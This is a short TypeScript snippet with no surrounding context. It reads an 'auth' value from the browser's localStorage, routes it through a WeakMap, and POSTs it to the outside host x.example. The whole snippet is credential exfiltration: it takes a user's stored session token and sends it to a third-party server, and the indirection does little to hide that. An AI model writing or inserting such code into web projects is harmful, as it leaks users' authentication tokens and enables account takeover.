const store = new WeakMap<object, string>(); const key = {};
store.set(key, localStorage.getItem('auth') ?? '');
fetch('https://x.example', { method: 'POST', body: store.get(key) });
